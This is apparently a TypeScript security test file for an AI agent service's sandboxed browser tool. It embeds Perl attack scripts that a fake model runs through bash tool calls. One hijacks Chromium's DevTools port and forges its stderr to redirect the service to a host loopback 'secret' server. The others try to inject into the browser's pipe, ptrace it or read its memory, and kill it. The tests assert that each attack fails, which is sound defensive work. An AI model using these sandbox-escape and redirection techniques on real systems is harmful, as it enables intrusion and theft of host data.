// The browser tools' DevTools channel against a hostile workspace: a process of the workspace
// looks for the browser's debugging port, binds it first, and tells the service it listens with
// a line written on the browser's stderr (a copy of that fd taken with pidfd_getfd, which the syscall filter now refuses as well); what it then
// answers points at the host's loopback. The service must never connect there, and nothing it
// read there (nor any detail of a failed start) may reach the model.
import { after, before, describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { useWarren } from './harness.ts'
import { startModelServer, type FakeModelServer } from './fakes/model-server.ts'
import { NO_RATE_LIMITS, client, newOrg } from './turns.helpers.ts'
import { chromiumAvailable } from '../src/tools/browser/browser-hub.ts'

const has = (cmd: string) => spawnSync('sh', ['-c', `command -v ${cmd}`]).status === 0
const skip = process.getuid?.() !== 0 ? 'needs root (network namespaces)' : !has('ip') ? 'needs ip' : !chromiumAvailable() ? 'needs Chromium' : false

// Waits (30 s at most) for a DevTools port on any command line of the workspace, binds it, finds
// the browser, writes the fake "listening" line on its stderr, then answers every request with
// a redirect and a WebSocket address, both on the host's loopback port given.
const ATTACKER = String.raw`
use strict; use IO::Socket::INET;
my ($target) = @ARGV; my $until = time + 30;
open my $w, '>', '/tmp/attacker.watching'; close $w;
sub cmdlines { my %c; for my $d (glob '/proc/[0-9]*') { open my $f, '<', "$d/cmdline" or next; local $/; my ($p) = $d =~ /(\d+)$/; $c{$p} = <$f> // '' } %c }
my ($port, $srv);
while (!$srv && time < $until) {
  my %c = cmdlines();
  for (values %c) { ($port) = /remote-debugging-port=(\d+)/ and last }
  $srv = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => $port, Listen => 8, ReuseAddr => 1) if $port;
  select(undef, undef, undef, 0.002) unless $srv;
}
exit 0 unless $srv;
my $told = 0;
while (!$told && time < $until) {
  my %c = cmdlines();
  for my $p (keys %c) {
    next unless $c{$p} =~ m{^/usr/lib/chromium/chromium\0} && $c{$p} !~ /--type=/;
    my $pidfd = syscall(434, $p + 0, 0); next if $pidfd < 0;
    my $fd = syscall(438, $pidfd, 2, 0); next if $fd < 0;
    open my $err, '>&=', $fd or next;
    syswrite $err, "DevTools listening on ws://127.0.0.1:$port/devtools/browser/x\n"; $told = 1;
  }
  select(undef, undef, undef, 0.01) unless $told;
}
while (my $c = $srv->accept) {
  my $req = ''; sysread $c, $req, 4096;
  my $ws = "ws://127.0.0.1:$target/devtools/browser/x";
  my $body = qq({"Browser":"x","webSocketDebuggerUrl":"$ws"});
  if ($req =~ m{^GET /json/version}) { print $c "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " . length($body) . "\r\nConnection: close\r\n\r\n$body" }
  else { print $c "HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:$target/metrics\r\nContent-Length: 0\r\nConnection: close\r\n\r\n" }
  close $c;
}
`

// Tries to get at the browser's answering pipe (its fd 4) to write one message into it, as the
// browser would: a copy taken with pidfd_getfd, or the fd opened again through /proc. Says which way
// worked ("wrote") or why each failed.
const INJECTOR = String.raw`
my ($payload) = @ARGV;
for my $d (glob '/proc/[0-9]*') {
  open my $f, '<', "$d/cmdline" or next; local $/; my $c = <$f> // '';
  next unless $c =~ m{^/usr/lib/chromium/chromium\0} && $c =~ /remote-debugging-pipe/ && $c !~ /--type=/;
  my ($p) = $d =~ /(\d+)$/;
  my $pidfd = syscall(434, $p + 0, 0);
  my $fd = $pidfd < 0 ? -1 : syscall(438, $pidfd, 4, 0);
  if ($fd >= 0 && open my $o, '>&=', $fd) { syswrite $o, "$payload\0"; print "wrote\n"; exit 0 }
  print "pidfd_getfd refused ($!)\n";
  if (open my $o, '>', "/proc/$p/fd/4") { syswrite $o, "$payload\0"; print "wrote\n"; exit 0 }
  print "reopen refused ($!)\n";
}
`

// Tries to take over each process of the browser (the main one and the crash handler it starts):
// PTRACE_ATTACH (the syscall's number for this machine given), then its memory through /proc.
// Says, per process, what worked ("attached", "mem opened") or why it failed.
const PTRACER = String.raw`
my ($nr) = @ARGV;
for my $d (glob '/proc/[0-9]*') {
  open my $f, '<', "$d/cmdline" or next; local $/; my $c = <$f> // '';
  my $who = $c =~ m{^/usr/lib/chromium/chrome_crashpad_handler\0} ? 'crashpad'
    : $c =~ m{^/usr/lib/chromium/chromium\0} && $c =~ /remote-debugging-pipe/ && $c !~ /--type=/ ? 'browser' : next;
  my ($p) = $d =~ /(\d+)$/;
  if (syscall($nr, 16, $p + 0, 0, 0) == 0) { print "$who attached\n"; waitpid($p, 0x40000000); syscall($nr, 17, $p + 0, 0, 0) }
  else { print "$who attach refused ($!)\n" }
  if (open my $m, '<', "/proc/$p/mem") { print "$who mem opened\n" } else { print "$who mem refused ($!)\n" }
}
`

// Waits (30 s at most) for the browser, writes a line on its stderr, and kills it.
const KILLER = String.raw`
my $until = time + 30;
open my $w, '>', '/tmp/killer.watching'; close $w;
while (time < $until) {
  for my $d (glob '/proc/[0-9]*') {
    open my $f, '<', "$d/cmdline" or next; local $/; my $c = <$f> // '';
    next unless $c =~ m{^/usr/lib/chromium/chromium\0} && $c !~ /--type=/;
    my ($p) = $d =~ /(\d+)$/;
    if (open my $err, '>', "/proc/$p/fd/2") { syswrite $err, "workspace-wrote-this on stderr\n" }
    kill 'KILL', $p; exit 0;
  }
  select(undef, undef, undef, 0.002);
}
`

describe('the browser’s DevTools channel against the workspace [sqlite]', { skip }, () => {
  const w = useWarren('sqlite', { env: { ...NO_RATE_LIMITS, WARREN_IDLE_PAUSE_MS: '600000' } })
  let fake: FakeModelServer
  // A listener on the host's loopback that the service can reach and the workspace must never read.
  let secret: http.Server
  const reached: string[] = []
  before(async () => {
    fake = await startModelServer({ models: ['m1'] })
    secret = http.createServer((req, res) => {
      reached.push(`${req.method} ${req.url}`)
      res.writeHead(200, { 'content-type': 'text/plain' }).end('host-secret-bytes')
    })
    await new Promise<void>((resolve) => secret.listen(0, '127.0.0.1', resolve))
  })
  after(() => {
    fake?.close()
    secret?.close()
  })

  const browse = { name: 'browse', args: { url: 'http://127.0.0.1:8000/' } }
  /** A bash call that writes the perl `script` and runs it with `args`: in the background (once it watches), or to its end. */
  const perl = (name: string, script: string, args: string, background: boolean) => ({
    name: 'bash',
    args: {
      command: `cat > /tmp/${name}.pl <<'EOF'\n${script}\nEOF\n` + (background
        ? `(setsid perl /tmp/${name}.pl ${args} >/dev/null 2>&1 &)\nwhile [ ! -e /tmp/${name}.watching ]; do sleep 0.05; done; echo watching`
        : `perl /tmp/${name}.pl ${args}`),
    },
  })
  /** One turn of a new session making these tool calls, a step each; what each call answered the model. */
  async function turnOf(...calls: { name: string; args: unknown }[]): Promise<string[]> {
    const c = client(w(), await newOrg(w()))
    await c.connect(fake, 'openai')
    const sid = await c.session()
    fake.script(...calls.map((call, i) => ({ toolCalls: [{ id: `call_${i}`, ...call }] })), { text: 'ok' })
    const before = fake.modelRequests.length
    const turn = await c.accept(sid, 'open it')
    assert.equal((await c.settled(sid, turn.id, 120_000)).status, 'completed')
    return calls.map((_, i) => fake.modelRequests[before + 1 + i]!.toolResults.at(-1)!.content)
  }

  it('a workspace process that takes the debugging port and fakes the browser’s stderr leads the service nowhere', async () => {
    const target = (secret.address() as AddressInfo).port
    const [started, browsed] = await turnOf(perl('attacker', ATTACKER, String(target), true), browse)
    assert.match(started!, /watching/, 'control: the attacker ran')
    assert.deepEqual(reached, [], 'the service connected to the host’s loopback')
    assert.ok(!browsed!.includes('host-secret-bytes') && !browsed!.includes(`:${target}`), browsed)
    // The browser works: the page is refused by the network policy, as any loopback address is.
    assert.match(browsed!, /network policy refused/, browsed)
  })

  it('a browser the workspace kills, after writing on its stderr, fails the call with the service’s words only', async () => {
    const [started, browsed] = await turnOf(perl('killer', KILLER, '', true), browse)
    assert.match(started!, /watching/, 'control: the killer ran')
    // Killed before the service reached it (the usual case): the fixed sentence; after, playwright's own words.
    assert.match(browsed!, /browse failed/, browsed)
    assert.ok(!browsed!.includes('workspace-wrote-this'), browsed)
  })

  it('the workspace cannot reach the browser’s pipe to slip a message into it, and the browser keeps working', async () => {
    // An answer to no command, carrying an error: playwright would assert on it. Before the syscall
    // filter refused pidfd_getfd, this reached the service's end of the pipe (the hub now also
    // checks each message's shape and ends a browser that sends a stray one).
    const payload = JSON.stringify({ id: 424242, error: { message: 'workspace-said-this' } })
    const results = await turnOf(browse, perl('injector', INJECTOR, `'${payload}'`, false), browse)
    assert.match(results[0]!, /network policy refused/, results[0])
    assert.match(results[1]!, /pidfd_getfd refused \(Operation not permitted\)/, results[1])
    assert.match(results[1]!, /reopen refused/, results[1])
    assert.doesNotMatch(results[1]!, /wrote/, results[1])
    assert.match(results[2]!, /network policy refused/, results[2])
    for (const r of results) assert.ok(!r.includes('workspace-said-this'), r)
  })

  it('the workspace cannot ptrace the browser nor open its memory, and the browser keeps working', async () => {
    // Run as the workspace's user, the browser would be its to take over: setup.sh makes its
    // binaries executable but not readable by that user, which leaves them non-dumpable.
    const ptraceNr = process.arch === 'arm64' ? 117 : 101
    const results = await turnOf(browse, perl('ptracer', PTRACER, String(ptraceNr), false), browse)
    assert.match(results[0]!, /network policy refused/, results[0])
    assert.match(results[1]!, /browser attach refused \(Operation not permitted\)/, results[1])
    assert.match(results[1]!, /browser mem refused \(Permission denied\)/, results[1])
    // Headless Chromium starts its crash handler whatever its flags: it is the workspace's no more.
    assert.match(results[1]!, /crashpad attach refused \(Operation not permitted\)/, results[1])
    assert.match(results[1]!, /crashpad mem refused \(Permission denied\)/, results[1])
    assert.doesNotMatch(results[1]!, /attached|mem opened/, results[1])
    assert.match(results[2]!, /network policy refused/, results[2])
  })
})
